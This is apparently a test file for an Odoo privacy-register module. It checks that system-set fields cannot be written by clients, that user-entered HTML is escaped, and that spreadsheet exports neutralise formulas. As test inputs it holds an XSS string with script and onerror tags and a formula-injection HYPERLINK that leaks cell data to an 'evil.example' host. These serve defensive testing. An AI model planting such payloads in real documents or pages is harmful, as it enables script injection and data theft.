"""System-set fields of the privacy registers are refused from clients, and
what the suite outputs (HTML, spreadsheets) cannot carry a user's markup or
formula (issue 14)."""

import base64
import io

from odoo.exceptions import AccessError, UserError
from odoo.tests import tagged

from ..lib import spreadsheet_safety
from .common import PrivacyCommon


@tagged("post_install", "-at_install")
class TestSystemFields(PrivacyCommon):
    def _request(self, **kw):
        vals = {
            "partner_id": self.cust_yes.id,
            "requester_name": "Consenting Customer",
            "request_type": "access",
            "received_date": "2024-01-01",
        }
        vals.update(kw)
        return self.env["crm.privacy.request"].with_user(self.officer).create(vals)

    def test_request_workflow_fields_are_set_by_the_buttons_only(self):
        request = self._request()
        for vals in (
            {"state": "complied"},
            {"response_date": "2024-01-02"},
            {"verified_date": "2024-01-02 10:00:00"},
            {"snapshot_json": "{}"},
            {"due_date": "2030-01-01"},
            {"fee": 0.0},
        ):
            with self.subTest(vals=vals), self.assertRaises(AccessError):
                request.write(vals)
        with self.assertRaises(AccessError):
            self._request(state="complied")
        with self.assertRaises(AccessError):
            self.env["crm.privacy.request"].with_user(self.officer).with_context(
                default_state="refused"
            ).create({"partner_id": self.cust_yes.id, "requester_name": "X"})
        # the buttons still drive it
        request.action_start_verification()
        self.assertEqual(request.state, "verifying")
        request.verification_method = "id_sighted"
        request.action_verify_identity()
        self.assertEqual(request.state, "in_progress")
        self.assertEqual(request.verified_by_id, self.officer)
        # a copy starts afresh
        copy = request.copy()
        self.assertEqual(copy.state, "received")
        self.assertFalse(copy.verified_date)

    def test_applied_correction_cannot_be_rewritten_by_a_forged_context(self):
        request = self._request(request_type="correction")
        field = self.env["ir.model.fields"]._get("res.partner", "street")
        line = (
            self.env["crm.privacy.request.correction"]
            .with_user(self.officer)
            .create({"request_id": request.id, "field_id": field.id, "new_value": "1 Queen's Rd"})
        )
        with self.assertRaises(AccessError):
            line.write({"applied": True})
        request.verification_method = "id_sighted"
        request.action_verify_identity()
        request.action_apply_corrections()
        self.assertTrue(line.applied)
        self.assertEqual(self.cust_yes.street, "1 Queen's Rd")
        with self.assertRaises(UserError):
            line.with_context(crm_privacy_applying=True).write({"new_value": "forged"})

    def test_breach_state_follows_the_buttons(self):
        breach = (
            self.env["crm.privacy.breach"]
            .with_user(self.officer)
            .create({"title": "Lost tablet", "partner_ids": [(6, 0, self.cust_yes.ids)]})
        )
        with self.assertRaises(AccessError):
            breach.write({"state": "closed"})
        breach.containment_steps = "<p>Remote wipe</p>"
        breach.action_contained()
        self.assertEqual(breach.state, "contained")

    def test_consent_blacklist_flag_is_system_set(self):
        with self.assertRaises(AccessError):
            self.env["crm.privacy.consent"].with_user(self.retail_user).create(
                {
                    "partner_id": self.cust_no.id,
                    "channel": "email",
                    "kind": "opt_out",
                    "blacklist_synced": True,
                }
            )

    def test_consent_summary_escapes_what_users_typed(self):
        purpose = self.env["crm.privacy.marketing.purpose"].create(
            {
                "name": '<img src=x onerror="alert(1)"><script>alert(2)</script>',
                "code": "xss_test",
            }
        )
        self._consent(self.cust_yes, purpose, "email")
        summary = str(self.cust_yes.with_user(self.retail_user).crm_consent_summary)
        self.assertNotIn("<script", summary)
        self.assertNotIn("<img", summary)
        self.assertIn("&lt;script&gt;alert(2)&lt;/script&gt;", summary)
        self.assertIn("<table", summary)  # the suite's own markup is kept

    def test_access_request_xlsx_has_no_live_formula(self):
        import openpyxl

        formula = '=HYPERLINK("http://evil.example/?leak="&B2, "Click")'
        self.cust_yes.write({"name": formula, "street": "@SUM(1+1)"})
        request = self._request(requester_name=formula)
        request.verification_method = "id_sighted"
        request.action_verify_identity()
        request.with_user(self.officer).action_export_xlsx()
        attachment = request.snapshot_attachment_ids
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        cells = [
            cell
            for sheet in workbook.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"])
        texts = {c.value for c in cells if isinstance(c.value, str)}
        self.assertIn("'" + formula, texts)
        self.assertIn("'@SUM(1+1)", texts)
        self.assertFalse([t for t in texts if spreadsheet_safety.is_formula_like(t)])
